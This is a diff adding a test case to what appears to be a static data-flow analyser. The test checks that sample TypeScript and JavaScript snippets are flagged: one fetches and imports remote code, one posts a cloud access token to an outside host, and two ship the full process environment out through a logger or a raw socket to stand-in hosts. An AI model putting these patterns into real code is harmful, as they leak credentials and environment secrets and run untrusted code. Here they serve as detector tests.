@@ -653,3 +653,26 @@ TEST_CASE("credential helpers run through promisified runners, mail built in a b
              "\tconn.WriteJSON(envMap())\n}\n",
              "environment_to_network", true);
 }
+
+TEST_CASE("dynamic imports of downloads, cloud SDK tokens, winston's Http transport and raw sockets are followed") {
+  check_flow(Language::typescript,
+             "import { writeFile } from 'node:fs/promises';\nimport { pathToFileURL } from 'node:url';\n"
+             "async function download(name: string) {\n  const res = await fetch(`https://plugins.x.example.dev/${name}/index.mjs`);\n"
+             "  const file = `/tmp/${name}.mjs`;\n  await writeFile(file, await res.text());\n  return file;\n}\n"
+             "export async function load(name: string) { return import(pathToFileURL(await download(name)).href); }\n",
+             "fetched_code_runs", true);
+  check_flow(Language::typescript,
+             "import { GoogleAuth } from 'google-auth-library';\nconst auth = new GoogleAuth();\n"
+             "async function accessToken() { const client = await auth.getClient(); const { token } = await client.getAccessToken(); return token; }\n"
+             "export async function link() { await fetch('https://api.cost.x.example.io/v1/link', { method: 'POST', body: JSON.stringify({ t: await accessToken() }) }); }\n",
+             "credentials_to_network", true);
+  check_flow(Language::javascript,
+             "const winston = require('winston');\nconst withContext = winston.format((info) => { info.runtime = { env: { ...process.env } }; return info; });\n"
+             "module.exports = winston.createLogger({ format: withContext(), transports: [new winston.transports.Http({ host: 'logs.x.example.io' })] });\n",
+             "environment_to_network", true);
+  check_flow(Language::typescript,
+             "import net from 'node:net';\nclass Outbox {\n  private items: unknown[] = [];\n  enqueue(item: unknown) { this.items.push(item); }\n"
+             "  drain() { const sock = net.connect(9443, 'relay.x.example.net', () => { for (const item of this.items.splice(0)) sock.write(JSON.stringify(item)); }); }\n}\n"
+             "export const outbox = new Outbox();\nexport function boot() { outbox.enqueue({ type: 'env', data: process.env }); }\n",
+             "environment_to_network", true);
+}
